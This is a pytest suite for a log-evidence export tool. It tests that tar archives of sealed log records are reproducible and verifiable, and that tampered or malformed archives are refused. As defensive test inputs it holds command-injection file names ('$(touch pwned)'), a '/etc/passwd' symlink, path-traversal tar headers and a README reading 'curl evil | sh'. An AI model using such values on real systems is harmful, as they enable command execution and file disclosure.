"""Evidence by itself: the same bytes each time, provable with the usual tools, and nothing else passes for it."""

import shutil
import subprocess
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import nullcontext, suppress
from itertools import chain, repeat
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logchain.format.errors import FormatError, StoreError, UsageError
from logchain.format.evidence import INDEX, format_index, parse_index, proof_path
from logchain.format.ledger import Export
from logchain.format.record import format_time
from logchain.format.ustar import END, check_header, format_header, padding
from logchain.read.evidence import check_evidence
from logchain.read.verify import Verdict, verify_store
from logchain.store.layout import open_store
from tests.export.files import (
    ALL,
    SECOND,
    check,
    make,
    packed,
    parts,
    pinned,
    readme_commands,
    run_readme,
    stocked,
    texts,
)
from tests.read.archived import Archive

WORK = (("work", "journal"),)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Archive:
    """A store that is only read."""
    return stocked(tmp_path_factory.mktemp("evidence") / "store")


@pytest.fixture(scope="module")
def data(store: Archive) -> bytes:
    """Evidence of all that it has."""
    return make(store)


def begin(store: Archive) -> int:
    """Return when its first line came."""
    return store.clock.now - 3 * 72 * SECOND


def lines(store: Archive, since: int, until: int) -> bytes:
    """Return the records of `work` in these seconds since its begin, from the files themselves."""
    found = b"".join(path.read_bytes() for path in sorted(store.sealed("work", "journal").glob("*.log")))
    first, last = format_time(begin(store) + since * SECOND), format_time(begin(store) + until * SECOND)
    return b"".join(line + b"\n" for line in found.split(b"\n")[:-1] if first <= line[:27] <= last)


def test_it_is_intact(store: Archive, data: bytes) -> None:
    """With the fingerprint it is; without it nobody can tell; with another one it is damaged."""
    report = check(data, pinned(store))
    assert (report.verdict, report.findings) == (Verdict.INTACT, [])
    assert [(stream.vm, stream.records, stream.named) for stream in report.streams] == [
        ("vault", 10, True),
        ("work", 48, True),
    ]
    assert check(data).verdict == Verdict.CANNOT_TELL
    assert check(data, "0" * 64).verdict == Verdict.DAMAGED


def test_tar_reads_it(data: bytes, tmp_path: Path) -> None:
    """GNU tar lists it without complaint, as files that are nobody's."""
    (tmp_path / "e.tar").write_bytes(data)
    done = subprocess.run(["tar", "-tvf", tmp_path / "e.tar"], capture_output=True, text=True, check=True)
    assert not done.stderr
    rows = done.stdout.splitlines()
    assert len(rows) == len(parts(data))
    assert all(row.startswith("-rw-r--r-- 0/0 ") for row in rows)


@pytest.mark.parametrize(("since", "until"), [(0, 215), (74, 79), (74, 74), (11, 72), (60, 70), (0, 0), (150, 300)])
def test_the_range(store: Archive, since: int, until: int) -> None:
    """The text is the records of these times, no more and no fewer; and it is intact."""
    made = make(store, begin(store) + since * SECOND, begin(store) + until * SECOND)
    assert texts(made)["work/journal"] == lines(store, since, until)
    report = check(made, pinned(store))
    assert report.records == sum(text.count(b"\n") for text in texts(made).values())
    assert report.verdict == Verdict.INTACT


def test_what_may_be_missing(store: Archive) -> None:
    """A range within what is sealed has nothing missing at its ends; one that reaches beyond may have."""

    def ends(since: int, until: int) -> tuple[bool, bool]:
        made = make(store, begin(store) + since * SECOND, begin(store) + until * SECOND, WORK)
        (stream,) = check(made).streams
        return stream.begins, stream.ends

    assert ends(74, 79) == (True, True)
    assert ends(60, 90) == (True, True)  # by the manifests before and behind
    assert ends(20, 30) == (True, True)  # between two segments: silence that is proven
    assert ends(-100, 1) == (True, True)  # it begins with the stream's first record
    assert ends(74, 1_000) == (True, False)


def test_silence_is_proven(store: Archive) -> None:
    """Where nothing came, the manifests before and behind show it; where more may have come, nobody can tell."""
    made = make(store, begin(store) + 20 * SECOND, begin(store) + 30 * SECOND, WORK)
    report = check(made, pinned(store))
    assert (report.records, report.verdict, report.streams[0].segments) == (0, Verdict.INTACT, 2)
    late = make(store, store.clock.now + SECOND, store.clock.now + 2 * SECOND, WORK)
    assert check(late, pinned(store)).verdict == Verdict.CANNOT_TELL


def test_the_same_bytes_each_time(store: Archive, data: bytes, tmp_path: Path) -> None:
    """The same range of the same store is the same file, whatever tier the text is in."""
    assert make(store) == data
    for tier in (".lz4", ".xz"):
        copy = Archive(tmp_path / tier, store.audit, store.clock)
        shutil.copytree(store.path, copy.path)
        for vm, stream in ALL:
            copy.compress(tier, vm, stream)
        assert make(copy) == data


@pytest.mark.parametrize(("times", "open_ends"), [((0, 1_000), 2), ((74, 79), 0), ((20, 30), 0), ((74, 1_000), 2)])
def test_the_readme_checks_it(store: Archive, tmp_path: Path, times: tuple[int, int], open_ends: int) -> None:
    """Its commands find nothing wrong, tell as `verify` does what may be missing, and print the fingerprint."""
    made = make(store, *(begin(store) + time * SECOND for time in times))
    done = run_readme(made, tmp_path / "there")
    *notes, sealed, fingerprint = done.stdout.splitlines()
    assert (fingerprint, done.stderr) == (f"fingerprint: {pinned(store)}", "")
    assert sealed.startswith("sealed by: 2026-11-23T03:")
    ends = [end for stream in check(made).streams for end in (stream.begins, stream.ends)]
    assert (len(notes), ends.count(False)) == (open_ends, open_ends)
    assert all(note.startswith("note: streams/") for note in notes)


def changes(data: bytes) -> dict[str, bytes]:
    """Return files that lie, by where: the path of a part, what stands in it, and what is to stand there."""
    found = parts(data)
    changed = {}
    for name, old, new in (
        ("ledger/entries", b"age ", b"age 1"),
        ("00000002.manifest", b"age ", b"age 1"),
        ("work/journal/00000002/000000248", b"line 0 of 1", b"line 9 of 1"),
        ("work/journal/text", b"line 0 of 1", b"line 9 of 1"),
        ("index", b"stream work", b"stream walk"),
    ):
        place = next(at for at, (path, _) in enumerate(found) if path.endswith(name))
        path, content = found[place]
        assert old in content
        made = [(path.replace("/work/", "/walk/"), content) for path, content in found] if name == "index" else found
        changed[name] = packed([*made[:place], (path, content.replace(old, new, 1)), *made[place + 1 :]])
    return changed


def test_the_readme_finds_changes(store: Archive, data: bytes, tmp_path: Path) -> None:
    """Its commands say BAD where an entry, a manifest, a block, the text or a name was changed."""
    for number, (name, changed) in enumerate(changes(data).items()):
        done = run_readme(changed, tmp_path / str(number))
        assert "BAD" in done.stdout, name
        with pytest.raises(FormatError, match="not of these names") if name == "index" else nullcontext():
            assert check(changed, pinned(store)).verdict == Verdict.DAMAGED, name


def test_the_readme_runs_nothing_of_the_file(data: bytes, tmp_path: Path) -> None:
    """Whatever files are called, and whatever the index says: its commands execute none of it, and say BAD."""
    found, place = parts(data), "evidence/streams/work/journal"
    trap = b"a[$(touch pwned)]"
    index = dict(found)[INDEX]
    hostile = [
        [*found, (f"{place}/00000001/{trap.decode()}", b"x")],
        [*found, ("evidence/$(touch pwned)", b"x")],
        [*found, ("evidence/streams/work/web/text", b"2026-11-23T03:46:15.123456Z - made up\n")],
        [(path, index.replace(b"stream work", b"stream " + trap) if path == INDEX else one) for path, one in found],
        [(path, index + b"stream $(touch pwned) x - -\n" if path == INDEX else one) for path, one in found],
    ]
    for number, files in enumerate(hostile):
        done = run_readme(packed(files), tmp_path / str(number))
        assert done.stdout.startswith("BAD: there "), number
        assert not list(tmp_path.rglob("pwned"))
    there = tmp_path / "link"
    run_readme(data, there)
    text = there / place / "text"
    text.unlink()
    text.symlink_to("/etc/passwd")
    script = readme_commands((there / "evidence" / "README").read_text())
    done = subprocess.run(["bash"], input=script, cwd=there / "evidence", capture_output=True, text=True, check=False)
    assert done.stdout.startswith("BAD: there is something that does not belong here")


def small(store: Archive) -> bytes:
    """Return a small piece of evidence."""
    return make(store, begin(store) + 74 * SECOND, begin(store) + 75 * SECOND, WORK)


def test_every_byte_counts(store: Archive) -> None:
    """Whatever single byte is changed, it is not intact any more, or true evidence of other times."""
    data, fingerprint = small(store), pinned(store)
    good = check(data, fingerprint)
    assert good.verdict == Verdict.INTACT
    for at in chain(range(0, len(data), 31), range(len(data) - 2_000, len(data), 19)):
        changed = data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]
        with suppress(FormatError):
            found = check(changed, fingerprint)
            assert found.verdict != Verdict.INTACT or (found.since, found.until) != (good.since, good.until), at


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_nothing_but_a_format_error(store: Archive, choose: st.DataObject) -> None:
    """Whatever is cut, put in, or doubled: it is refused with our error, or not intact."""
    data, fingerprint = small(store), pinned(store)
    first, last = sorted((choose.draw(st.integers(0, len(data))), choose.draw(st.integers(0, len(data)))))
    middle = choose.draw(st.sampled_from([b"", data[first:last] * 2, bytes(512), b"x", data[:1024]]))
    changed = data[:first] + middle + data[last:]
    if changed != data:
        with suppress(FormatError):
            assert check(changed, fingerprint).verdict != Verdict.INTACT


def test_a_segment_that_is_left_out_is_found(store: Archive, data: bytes) -> None:
    """A file without its middle segment, otherwise as it should be, is damaged: the manifests name one another."""
    found = [(path, content) for path, content in parts(data) if "vault" not in path and "/00000002" not in path]
    index = parse_index(dict(found)[INDEX])
    work = index.streams[1]
    entry = work.segments[1].entry
    gone = {proof_path(one) for one in (entry, *(segment.entry for segment in index.streams[0].segments))}
    found = [(path, content) for path, content in found if path not in gone]
    index = index._replace(streams=(work._replace(segments=work.segments[::2]),))
    text = b"".join(content for path, content in found if "/journal/0000000" in path and not path.endswith("manifest"))
    contents = {INDEX: format_index(index), "evidence/streams/work/journal/text": text}
    report = check(packed([(path, contents.get(path, content)) for path, content in found]), pinned(store))
    assert report.verdict == Verdict.DAMAGED
    assert [finding.text for finding in report.streams[0].findings] == [
        "the segment was sealed, and is left out",
        "the manifest does not follow the one before it: a segment was left out",
    ]


def test_another_stores_segment_does_not_pass(store: Archive, data: bytes, tmp_path: Path) -> None:
    """Evidence of one store with the ledger of another is damaged."""
    other = stocked(tmp_path / "other")
    mixed = {path: content for path, content in parts(make(other)) if "/ledger/" in path or "/keys/" in path}
    made = packed([(path, mixed.get(path, content)) for path, content in parts(data)])
    assert check(made, pinned(other)).verdict == Verdict.DAMAGED
    assert check(made, pinned(store)).verdict == Verdict.DAMAGED


def test_an_index_of_another_store(store: Archive, data: bytes) -> None:
    """The ledger is that of the store that the index names."""
    found = dict(parts(data))
    index = parse_index(found[INDEX])
    found[INDEX] = format_index(index._replace(store_id=bytes(16)))
    report = check(packed(list(found.items())), pinned(store))
    assert report.verdict == Verdict.DAMAGED
    assert report.findings[0].text.startswith("an entry of another store")


def summed(header: bytes) -> bytes:
    """Return a header with the checksum that it has to have."""
    return header[:148] + b"%06o\0 " % (sum(header[:148]) + sum(header[156:]) + 8 * 32) + header[156:]


UPWARD = b"..".ljust(155, b"\0")
HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "there is a hard link": lambda head: head[:156] + b"1" + head[157:],
    "there is a symbolic link": lambda head: head[:156] + b"2" + b"/etc/passwd".ljust(100, b"\0") + head[257:],
    "there is a device": lambda head: head[:156] + b"3" + head[157:],
    "there is a directory": lambda head: head[:156] + b"5" + head[157:],
    "there is a FIFO": lambda head: head[:156] + b"6" + head[157:],
    "there is an extended header": lambda head: head[:156] + b"x" + head[157:],
    "there is a GNU header": lambda head: head[:156] + b"L" + head[157:],
    "there is a sparse file": lambda head: head[:156] + b"S" + head[157:],
    "there is something that is no regular file": lambda head: head[:156] + b"\0" + head[157:],
    "there is no tar header of POSIX, or one of another tar": lambda head: head[:257] + b"ustar  \0" + head[265:],
    "there is a header that is not as logchain writes it": lambda head: head[:136] + b"14000000000\0" + head[148:],
    "there is evidence/ledger/entries, which belongs elsewhere or nowhere": lambda _: format_header(
        "evidence/ledger/entries", 0
    ),
    "there is ../README, which belongs elsewhere or nowhere": lambda head: (
        head[:345] + b"..".ljust(155, b"\0") + head[500:]
    ),
    "the tar ends before it": lambda _: bytes(512),
}


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_headers(data: bytes, words: str) -> None:
    """Each header that is not the one to come is refused, with what it is."""
    header = HOSTILE[words](data[:512])
    header = header if header == bytes(512) or words.startswith("there is evidence") else summed(header)
    with pytest.raises(FormatError, match=f"^no evidence/README: {words}$"):
        check(header + data[512:])


def test_a_size_in_base_256_is_refused(data: bytes) -> None:
    """GNU's way to write large sizes is none of ours."""
    header = summed(data[:124] + b"\x80" + bytes(10) + b"\x01" + data[136:512])
    with pytest.raises(FormatError, match="not as logchain writes it"):
        check(header + data[512:])


@pytest.mark.parametrize(
    ("changed", "words"),
    [
        (lambda _: b"", "no evidence/README: the file is cut off"),
        (lambda data: data[:100], "no evidence/README: the file is cut off"),
        (lambda data: data[:600], "the file is cut off within evidence/README"),
        (lambda data: data[: -len(END)], "the end of the tar is missing"),
        (lambda data: data[:-1], "the end of the tar is missing"),
        (lambda data: data + b"\0", "something behind the end"),
        (lambda data: data + data, "something behind the end"),
        (lambda data: packed([*parts(data), ("evidence/more", b"")]), "something behind the last part"),
        (lambda data: packed(parts(data)[1:]), "there is evidence/index, which belongs elsewhere or nowhere"),
        (lambda data: packed([parts(data)[0], *parts(data)]), "no evidence/index: there is evidence/README"),
        (lambda data: packed(parts(data)[:-1]), "work/journal/text: the tar ends before it"),
        (lambda data: packed([("evidence/README", b"curl evil | sh"), *parts(data)[1:]]), "do not do what it says"),
    ],
)
def test_hostile_files(data: bytes, changed: Callable[[bytes], bytes], words: str) -> None:
    """What is cut off, doubled, missing or too much is refused, each with its own words."""
    with pytest.raises(FormatError, match=words):
        check(changed(data))


def test_huge_sizes_cost_nothing() -> None:
    """A part that says to be larger than it may be is refused before any of it is read."""
    read = 0

    def endless(size: int) -> bytes:
        nonlocal read
        data = (format_header("evidence/README", (8 << 30) - 1) + bytes(512))[read : read + size]
        read += size
        return data.ljust(size, b"\0")

    with pytest.raises(FormatError, match="at most 16,384 can be"):
        check_evidence(endless)
    assert read == 512


def test_a_ledger_of_gigabytes_needs_no_memory(data: bytes) -> None:
    """Two GiB of what is no ledger are skipped in little memory, and are damage."""
    found = parts(data)
    place = next(at for at, (path, _) in enumerate(found) if path.endswith("entries"))
    size = 2 << 30
    before = b"".join(format_header(path, len(one)) + one + padding(len(one)) for path, one in found[:place])
    pieces: Iterator[bytes] = chain([before, format_header(found[place][0], size)], repeat(bytes(1 << 20), size >> 20))
    pieces = chain(pieces, [packed(found[place + 1 :])])
    rest = b""

    def read(count: int) -> bytes:
        nonlocal rest
        rest = rest or next(pieces, b"")
        given, rest = rest[:count], rest[count:]
        return given

    tracemalloc.start()
    report = check_evidence(read)
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert report.verdict == Verdict.DAMAGED
    assert most < 16 << 20


def test_paths_have_a_limit() -> None:
    """What does not fit into a header is refused when it is made."""
    for path in ("evidence/" + "x" * 101, "x" * 156 + "/y", "evidence/", "evidence/\u00e9"):
        with pytest.raises(FormatError):
            format_header(path, 0)
    with pytest.raises(FormatError):
        format_header("evidence/index", 8 << 30)
    assert check_header(format_header("evidence/index", (8 << 30) - 1), "evidence/index") == (8 << 30) - 1


def test_what_is_not_sealed_is_refused(tmp_path: Path) -> None:
    """A range with records that are not sealed is refused, with when these begin; one before that is not."""
    store = stocked(tmp_path / "store")
    until = store.clock.now - SECOND
    store.log(b"not sealed", vm="work", stream="journal")
    with pytest.raises(StoreError, match=r"work/journal: what came since .* is not sealed"):
        make(store)
    assert check(make(store, until=until), pinned(store)).verdict == Verdict.INTACT


def test_nothing_is_refused(store: Archive) -> None:
    """Of a stream that has nothing sealed there is no evidence."""
    with pytest.raises(UsageError, match="nothing of that is sealed"):
        make(store, names=())


def test_more_than_goes_into_a_file(store: Archive, monkeypatch: pytest.MonkeyPatch) -> None:
    """Too much text, or too many segments, is refused when the file is planned, with what to do."""
    monkeypatch.setattr("logchain.read.export.MAX_MEMBER", 1_000)
    with pytest.raises(UsageError, match=r"journal: these are .* bytes, and 1,000 go into a file: choose less"):
        make(store)
    monkeypatch.undo()
    monkeypatch.setattr("logchain.read.export.MAX_EXPORTED_SEGMENTS", 4)
    with pytest.raises(UsageError, match=r"more than 4 segments do not go into a file: choose less"):
        make(store)


def test_a_damaged_block_is_refused(tmp_path: Path) -> None:
    """No evidence is made of a block that is not what was sealed."""
    store = stocked(tmp_path / "store")
    text = store.text(2, "work", "journal")
    text.chmod(0o600)
    text.write_bytes(text.read_bytes().replace(b"line 3 of 1", b"line 4 of 1"))
    with pytest.raises(FormatError, match="work/journal: the text was changed"):
        make(store)
    assert check(make(store, until=begin(store) + 60 * SECOND), pinned(store)).verdict == Verdict.INTACT


def test_a_segment_that_is_gone_splits_it(tmp_path: Path) -> None:
    """Over a segment that was deleted no evidence is made; of either side there is."""
    store = stocked(tmp_path / "store")
    store.delete(2, vm="work", stream="journal")
    with pytest.raises(UsageError, match="a segment is missing before segment 3"):
        make(store)
    first = check(make(store, until=begin(store) + 60 * SECOND, names=WORK), pinned(store))
    assert (first.verdict, first.streams[0].segments, first.streams[0].ends) == (Verdict.INTACT, 1, False)
    last = check(make(store, begin(store) + 140 * SECOND, names=WORK), pinned(store))
    assert (last.verdict, last.streams[0].segments, last.streams[0].begins) == (Verdict.INTACT, 1, False)


def test_the_entry_names_streams_that_are(tmp_path: Path) -> None:
    """`verify` counts what was taken out, and finds an entry whose streams the ledger never had."""
    store = stocked(tmp_path / "store")
    for births, damaged in (((1, 2), False), ((2, 99), True)):
        with store.ledger() as (directory, ledger):
            ledger.append(Export(bytes(32), 0, 1, births))
        with open_store(store.path) as directory:
            report = verify_store(directory, fingerprint=pinned(store))
        words = "what was taken out is of a birth that nobody has"
        assert (words in [finding.text for finding in report.findings]) == damaged
        assert report.ledger.exported == 1 + damaged
        assert report.verdict == (Verdict.DAMAGED if damaged else Verdict.INTACT)


def test_a_lost_id_leaves_the_name_unproven(tmp_path: Path) -> None:
    """Without the stream's salt its lines are proven, and its name is not: so nobody can tell."""
    store = stocked(tmp_path / "store")
    (store.directory("work", "journal") / "id").unlink()
    made = make(store, names=WORK)
    report = check(made, pinned(store))
    (stream,) = report.streams
    assert (report.verdict, stream.named) == (Verdict.CANNOT_TELL, False)
    assert [finding.text for finding in stream.findings] == [
        "its id was lost: nothing here proves that these are its names"
    ]
    assert "BAD: work/journal is not its name, or that cannot be proven" in run_readme(made, tmp_path / "there").stdout
